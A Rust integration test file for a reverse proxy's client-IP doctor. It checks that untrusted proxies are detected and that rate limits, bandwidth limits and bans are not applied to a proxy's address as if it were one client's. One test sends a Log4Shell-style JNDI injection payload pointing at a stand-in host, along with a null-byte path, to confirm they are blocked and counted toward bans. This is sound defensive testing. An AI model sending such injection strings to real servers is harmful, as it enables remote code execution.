//! The client-IP doctor: proxies that nobody trusts are found, and their address is not taken for a client's.

use serde_json::Value;

use crate::harness::{Answer, Origin, Proxy, ProxyBuilder, Wire, wait_for, wait_until};

const SITE: &str = "shop.test";
const LIMIT: &str = "plain_http = true\nlimit = \"5 per 1h by client-ip\"";

async fn site(builder: ProxyBuilder, origin: &Origin) -> Proxy {
    builder.site(SITE, &format!("{}\n{LIMIT}", origin.backends())).start().await
}

/// The status of a request with these fields.
async fn status(wire: &mut Wire, fields: &str) -> u16 {
    wire.send(format!("GET / HTTP/1.1\r\nHost: {SITE}\r\n{fields}\r\n")).await;
    wire.reply().await.status
}

async fn findings(proxy: &Proxy) -> Vec<Value> {
    proxy.status().await["doctor"].as_array().unwrap().clone()
}

/// Waits until it is found.
async fn found(proxy: &Proxy, kind: &str) -> Value {
    wait_for(kind, || async { findings(proxy).await.into_iter().find(|one| one["finding"] == kind) }).await
}

#[tokio::test]
async fn behind_a_known_proxy_that_is_not_trusted_nobody_is_refused_for_its_address() {
    let origin = Origin::saying("ok").await;
    let edge = |builder: ProxyBuilder| {
        builder.set("networks.edge.networks", "[\"127.0.0.0/8\"]").set("networks.edge.proxy", "true")
    };
    let builder = edge(Proxy::builder()).set("server.max_connections_per_client", "2");
    let proxy = site(builder, &origin).await;
    let mut wires = [proxy.plain().await, proxy.plain().await, proxy.plain().await];
    for number in 0..12 {
        assert_eq!(status(&mut wires[number % 3], "").await, 200, "request {number}");
    }
    let edge = found(&proxy, "known-proxy").await;
    let advice = edge["advice"].as_str().unwrap();
    assert!(advice.contains("Write trusted_proxies = [\"edge\"] in [server]"), "{advice}");
    assert_eq!((&edge["who"], &edge["limits_by_address"]), (&"edge".into(), &"not enforced".into()));
    proxy.records(12).await;
    let metrics = proxy.metrics().await;
    let labels = [("site", SITE), ("policy", "rate-limit")];
    assert_eq!(metrics.sum("tidegate_would_block_total", &labels), 7.0, "{}", metrics.0);
    assert_eq!(metrics.sum("tidegate_doctor_findings", &[("finding", "known-proxy")]), 1.0);
    let said = String::from_utf8_lossy(&proxy.command_async(&["status"]).await.stdout).into_owned();
    assert!(said.contains("client addresses\n  connections come from the proxy `edge`"), "{said}");
    // The log hears of it with the next look, a second later at most.
    wait_until("a line of the log", || proxy.stderr().contains("connections come from the proxy `edge`"))
        .await;

    // Trusted, the address is the client's own again, and so is its limit.
    proxy.edit_config(|text| text.replace("[server]\n", "[server]\ntrusted_proxies = [\"edge\"]\n"));
    proxy.reload().await;
    let mut wire = proxy.plain().await;
    let mut answers = Vec::new();
    for _ in 0..7 {
        answers.push(status(&mut wire, "X-Forwarded-For: 192.0.2.7\r\n").await);
    }
    assert_eq!(answers, [200, 200, 200, 200, 200, 429, 429]);
    assert_eq!(status(&mut wire, "X-Forwarded-For: 192.0.2.8\r\n").await, 200);
}

#[tokio::test]
async fn told_only_to_warn_it_warns_and_turned_off_it_says_nothing() {
    let origin = Origin::saying("ok").await;
    for setting in ["warn", "off"] {
        let builder = Proxy::builder()
            .set("networks.edge.networks", "[\"127.0.0.0/8\"]")
            .set("networks.edge.proxy", "true")
            .set("server.client_ip_doctor", &format!("\"{setting}\""));
        let proxy = site(builder, &origin).await;
        let mut wire = proxy.plain().await;
        let mut answers = Vec::new();
        for _ in 0..6 {
            answers.push(status(&mut wire, "").await);
        }
        assert_eq!(answers, [200, 200, 200, 200, 200, 429], "{setting}");
        if setting == "warn" {
            assert_eq!(found(&proxy, "known-proxy").await["limits_by_address"], "enforced");
        } else {
            assert!(findings(&proxy).await.is_empty());
        }
    }
}

#[tokio::test]
async fn a_proxy_inside_that_is_not_trusted_is_found_by_what_it_adds() {
    let origin = Origin::saying("ok").await;
    let proxy = site(Proxy::builder().set("server.max_connections_per_client", "2"), &origin).await;
    let mut wire = proxy.plain().await;
    let mut refused = 0;
    // Enough to be believed; the fifth request and what follows are refused for the proxy's address.
    for number in 0..2_100 {
        let fields = format!("X-Forwarded-For: 192.0.2.{}\r\n", number % 200);
        refused += usize::from(status(&mut wire, &fields).await == 429);
    }
    assert!(refused > 0);
    let inner = found(&proxy, "inner-proxy").await;
    assert_eq!((&inner["who"], &inner["percent"]), (&"127.0.0.1".into(), &100.into()), "{inner:#}");
    // Workers hear of it with their next tick, also for connections that are open.
    let wire = tokio::sync::Mutex::new(wire);
    wait_for("requests to pass", || async {
        (status(&mut *wire.lock().await, "X-Forwarded-For: 192.0.2.1\r\n").await == 200).then_some(())
    })
    .await;
    // Its connections are those of many, too.
    let mut more = Vec::new();
    for _ in 0..4 {
        let mut wire = proxy.plain().await;
        assert_eq!(status(&mut wire, "X-Forwarded-For: 192.0.2.1\r\n").await, 200);
        more.push(wire);
    }
}

#[tokio::test]
async fn behind_a_proxy_that_is_not_trusted_nobody_waits_for_the_bandwidth_of_its_address() {
    let origin = Origin::answering(|_| Answer::ok("x".repeat(256 * 1024))).await;
    let site =
        format!("{}\nplain_http = true\nbandwidth = {{ down = \"1KiB/s by client-ip\" }}", origin.backends());
    let builder = Proxy::builder()
        .set("networks.edge.networks", "[\"127.0.0.0/8\"]")
        .set("networks.edge.proxy", "true")
        .site(SITE, &site);
    let proxy = builder.start().await;
    let mut wire = proxy.plain().await;
    for _ in 0..3 {
        // At the rate of its lane each would take four minutes.
        assert_eq!(wire.get(SITE, "/").await.body.len(), 256 * 1024);
    }
    let metrics = proxy.metrics().await;
    assert_eq!(metrics.sum("tidegate_bandwidth_waits_total", &[]), 0.0);
    assert!(metrics.sum("tidegate_would_block_total", &[("policy", "bandwidth")]) >= 2.0);
}

/// The status of a request of this client, by PROXY protocol; `None`: its connection was closed.
async fn knock(proxy: &Proxy, client: &str, target: &str) -> Option<u16> {
    let mut plain = proxy.plain().await;
    plain.send(format!("PROXY TCP4 {client} {client} 4711 80\r\n")).await;
    let fields = "X-Forwarded-For: 192.0.2.9\r\nConnection: close\r\n";
    let request = format!("GET {target} HTTP/1.1\r\nHost: {SITE}\r\n{fields}\r\n");
    // Who is banned may be closed before the request is written.
    let _ = plain.try_send(request).await;
    plain.try_reply_to("GET").await.ok().map(|reply| reply.status)
}

#[tokio::test]
async fn what_is_done_through_a_proxy_that_is_not_trusted_bans_nobody() {
    const PROXY: &str = "198.51.100.1";
    const CLIENT: &str = "203.0.113.1";
    let origin = Origin::saying("ok").await;
    let edge = "[networks.edge]\nnetworks = [\"198.51.100.0/24\"]\nfile = \"edge.txt\"\nproxy = true\n";
    let proxy = Proxy::builder()
        .set("server.trusted_proxies", "[\"127.0.0.1/32\"]")
        .set("server.proxy_protocol", "true")
        .set("patches.mode", "\"enforce\"")
        .set("bans.after", "\"3 per 1h\"")
        .set("bans.offences", "[\"patch\", \"bad-request\"]")
        .site(SITE, &format!("plain_http = true\n{}", origin.backends()))
        .start()
        .await;
    let list = proxy.config().with_file_name("edge.txt");
    std::fs::write(&list, "192.0.2.0/24\n").unwrap();
    proxy.edit_config(|text| format!("{text}\n{edge}"));
    assert_eq!(proxy.reload().await["refused"], false);
    let exploit = "/?x=${jndi:ldap://evil.test/a}";
    for offence in [exploit, "/a%00b"] {
        let refused = if offence == exploit { 403 } else { 400 };
        for _ in 0..5 {
            assert_eq!(knock(&proxy, PROXY, offence).await, Some(refused));
        }
    }
    assert_eq!(knock(&proxy, PROXY, "/").await, Some(200));
    assert_eq!(proxy.admin("GET", "/bans").await["bans"].as_array().map(Vec::len), Some(0));
    // Of a client they do, also where they are exploits.
    for _ in 0..3 {
        assert_eq!(knock(&proxy, CLIENT, exploit).await, Some(403));
    }
    assert_eq!(knock(&proxy, CLIENT, "/").await, None, "at the door");
    let bans = proxy.admin("GET", "/bans").await["bans"].clone();
    assert_eq!(bans[0]["net"], format!("{CLIENT}/32"), "{bans}");
    assert!(bans[0]["why"].as_str().unwrap().contains("the last: patch"), "{bans}");
    // The client turns out to be behind a proxy: what it was banned for was not one client's doing. A person's word holds.
    std::fs::write(&list, "203.0.113.0/24\n").unwrap();
    assert_eq!(proxy.reload().await["refused"], false);
    assert_eq!(knock(&proxy, CLIENT, "/").await, Some(200));
    let banned = proxy.command_async(&["ban", CLIENT]).await;
    assert!(banned.status.success(), "{}", String::from_utf8_lossy(&banned.stderr));
    assert_eq!(knock(&proxy, CLIENT, "/").await, None);
}

#[tokio::test]
async fn a_proxy_inside_that_was_banned_before_it_was_found_is_found_all_the_same() {
    const INSIDE: &str = "10.1.2.3";
    let origin = Origin::saying("ok").await;
    let proxy = Proxy::builder()
        .set("server.trusted_proxies", "[\"127.0.0.1/32\"]")
        .set("server.proxy_protocol", "true")
        .set("bans.after", "\"1 per 1h\"")
        .set("bans.for", "\"1h\"")
        .set("bans.offences", "[\"bad-request\"]")
        .site(SITE, &format!("plain_http = true\n{}", origin.backends()))
        .start()
        .await;
    assert_eq!(knock(&proxy, INSIDE, "/a%00b").await, Some(400));
    assert_eq!(knock(&proxy, INSIDE, "/").await, Some(403));
    // Not at the door: its requests say whether it is a proxy. Enough of them are believed.
    for number in 0..2_100 {
        assert!(knock(&proxy, INSIDE, "/").await.is_some(), "request {number} was turned away at the door");
    }
    found(&proxy, "inner-proxy").await;
    wait_for("its requests to pass", || async {
        (knock(&proxy, INSIDE, "/").await == Some(200)).then_some(())
    })
    .await;
    assert_eq!(knock(&proxy, "203.0.113.1", "/a%00b").await, Some(400));
    assert_eq!(
        knock(&proxy, "203.0.113.1", "/").await,
        None,
        "a client from outside is turned away at the door"
    );
}
